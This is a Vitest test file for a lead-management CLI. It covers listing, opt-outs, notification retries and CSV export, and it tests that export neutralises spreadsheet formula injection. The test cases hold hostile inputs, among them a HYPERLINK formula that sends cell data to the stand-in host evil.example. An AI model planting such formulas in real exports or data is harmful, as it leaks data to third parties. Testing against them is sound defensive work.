import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Db } from '../../server/db';
import { createPgDb } from '../../server/db/pg';
import { type TestDb, testBackends } from '../../server/db/test-backends';
import { storeLead } from '../../server/leads/store';
import { sampleLead } from '../../server/leads/test-fixtures';
import { CliError } from '../errors';
import { buildProgram } from '../program';
import { csvCell, toCsv } from './leads-export';
import type { DbDeps } from './leads-shared';

const root = mkdtempSync(join(tmpdir(), 'cli-leads-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

describe('CSV export cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
    ['=1+2', "'=1+2"],
    ['+1 555 010 0142', "'+1 555 010 0142"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tcmd', "'\tcmd"],
    ['\r=cmd', `"'\r=cmd"`],
    ['Mary Smith', 'Mary Smith'],
    ['Smith, Mary', '"Smith, Mary"'],
    ['Mary "Mae" Smith', '"Mary ""Mae"" Smith"'],
    ['line\nbreak', '"line\nbreak"'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j becomes %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('writes numbers, booleans, dates and empty values plainly', () => {
    expect(csvCell(67)).toBe('67');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(new Date('2026-03-01T14:05:00Z'))).toBe('2026-03-01T14:05:00.000Z');
  });

  it('writes a header and CRLF line ends', () => {
    const csv = toCsv([]);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')[0]?.split(',').slice(0, 5)).toEqual(['id', 'created_at', 'gender', 'age', 'tobacco']);
  });
});

describe.each(testBackends)('leads commands on $name', { timeout: 30_000 }, (backend) => {
  let db: TestDb;
  // The commands close the database when done: hand them a handle whose close does nothing.
  const deps: DbDeps = {
    openDb: async () => ({ ...db, kind: db.kind, query: db.query, transaction: db.transaction, close: async () => {} }),
    describe: () => `test ${backend.name}`,
  };
  beforeAll(async () => {
    db = await backend.open();
  }, 60_000);
  afterAll(() => db?.close());
  beforeEach(() => db.reset());

  async function run(...args: string[]): Promise<string[]> {
    const lines: string[] = [];
    await buildProgram((line) => lines.push(line), deps).parseAsync(['node', 'cli', ...args]);
    return lines;
  }

  const store = (overrides = {}) =>
    storeLead(db, sampleLead(overrides), { ip: '127.0.0.1' }, { channels: ['log'], minFillMs: 3000 });

  it('leads list prints one line per lead, and --json the rows', async () => {
    const lead = await store({ name: 'Mary Listed', phone: '(555) 010-0177' });
    await store({ company: 'bot' });
    const lines = await run('leads', 'list');
    expect(lines).toHaveLength(2);
    expect(lines[0]).toContain('Mary Listed | (555) 010-0177 |');
    expect(lines[0]).toContain('43215 Columbus, OH | 67 female tobacco:no | log:pending');
    expect(lines[1]).toBe('1 lead(s)');

    const json = JSON.parse((await run('leads', 'list', '--json')).join('\n')) as Array<{ id: string }>;
    expect(json.map((row) => row.id)).toEqual([lead.id]);
    const all = JSON.parse((await run('leads', 'list', '--json', '--include-spam')).join('\n')) as unknown[];
    expect(all).toHaveLength(2);
  });

  it('leads list --since filters by date or age, and refuses a bad date', async () => {
    const old = await store();
    await db.query(`UPDATE quote_submissions SET created_at = now() - interval '10 days' WHERE id = $1`, [old.id]);
    const recent = await store();
    const ids = async (...args: string[]) =>
      (JSON.parse((await run('leads', 'list', '--json', ...args)).join('\n')) as Array<{ id: string }>).map(
        (r) => r.id,
      );
    expect(await ids('--since', '7d')).toEqual([recent.id]);
    expect(await ids('--since', new Date(Date.now() - 20 * 86_400_000).toISOString().slice(0, 10))).toEqual([
      old.id,
      recent.id,
    ]);
    await expect(run('leads', 'list', '--since', 'last week')).rejects.toThrow(
      '--since must be a date like 2026-03-01, a date-time, or an age like 7d, 24h (got "last week")',
    );
  });

  it('leads export --format csv neutralises formulas, to stdout or a file', async () => {
    await store({ name: '=HYPERLINK("http://evil.example","x")' });
    await store({ name: '@SUM(1+1)' });
    const csv = (await run('leads', 'export', '--format', 'csv')).join('\n');
    const lines = csv.split('\r\n');
    expect(lines).toHaveLength(3);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example"",""x"")"`);
    expect(csv).toContain(`,'@SUM(1+1),`);
    expect(csv).not.toMatch(/,=|,@|,\+|,-/);

    const out = join(root, `leads-${backend.name}.csv`);
    expect(await run('leads', 'export', '--format', 'csv', '--out', out)).toEqual([`ok: wrote 2 lead(s) to ${out}`]);
    expect(readFileSync(out, 'utf8')).toBe(`${csv}\r\n`);
    expect(statSync(out).mode & 0o777).toBe(0o600);

    await expect(run('leads', 'export', '--format', 'xlsx')).rejects.toThrow('--format must be csv');
  });

  it('leads opt-out adds a phone or an e-mail and flags the leads that carry it', async () => {
    const lead = await store({ phone: '(555) 010-0199' });
    expect(await run('leads', 'opt-out', '--phone', '555.010.0199')).toEqual([
      'ok: 5550100199 added to the do-not-contact list; 1 lead(s) flagged, 1 notification(s) cancelled',
    ]);
    expect(await run('leads', 'opt-out', '--phone', '5550100199')).toEqual([
      'ok: 5550100199 was already on the do-not-contact list; 0 lead(s) flagged, 0 notification(s) cancelled',
    ]);
    const flagged = await db.query('SELECT do_not_contact FROM quote_submissions WHERE id = $1', [lead.id]);
    expect(flagged.rows).toEqual([{ do_not_contact: true }]);
    const byEmail = JSON.parse((await run('leads', 'opt-out', '--email', 'Someone@Example.com', '--json')).join(''));
    expect(byEmail).toEqual({ email: 'someone@example.com', added: true, leadsFlagged: 0, notificationsCancelled: 0 });

    await expect(run('leads', 'opt-out')).rejects.toThrow('give exactly one of --phone <number> or --email <address>');
    await expect(run('leads', 'opt-out', '--phone', '1', '--email', 'a@b.co')).rejects.toBeInstanceOf(CliError);
    await expect(run('leads', 'opt-out', '--phone', '555-0100')).rejects.toThrow(
      '--phone must be a 10-digit US phone number (got "555-0100")',
    );
  });

  it('leads retry-notifications puts dead jobs back and prints the count', async () => {
    await store();
    await store();
    await db.query(`UPDATE lead_notifications SET status = 'dead', attempts = 8, last_error = 'boom'`);
    expect(await run('leads', 'retry-notifications')).toEqual(['ok: 2 dead notification(s) back to pending']);
    const jobs = await db.query<{ status: string; attempts: number }>(
      'SELECT status, attempts FROM lead_notifications',
    );
    expect(jobs.rows).toEqual([
      { status: 'pending', attempts: 0 },
      { status: 'pending', attempts: 0 },
    ]);
    expect(await run('leads', 'retry-notifications', '--json')).toEqual(['{"retried":0}']);
  });

  it('db migrate reports an up-to-date schema', async () => {
    expect(await run('db', 'migrate')).toEqual([`ok: test ${backend.name} is up to date (schema version 1)`]);
  });
});

describe('leads commands without a database', () => {
  it('say clearly that the database cannot be reached', async () => {
    let opened: Db | undefined;
    const deps: DbDeps = {
      openDb: async () => {
        opened = createPgDb({ connectionString: 'postgres://postgres@127.0.0.1:1/none', timeoutMs: 500 });
        return opened;
      },
      describe: () => 'PostgreSQL at 127.0.0.1:1/none',
    };
    const program = buildProgram(() => {}, deps);
    await expect(program.parseAsync(['node', 'cli', 'leads', 'list'])).rejects.toThrow(
      /^Cannot reach PostgreSQL at 127\.0\.0\.1:1\/none: Database unavailable: connect ECONNREFUSED/,
    );
    expect(opened).toBeDefined();
  });
});
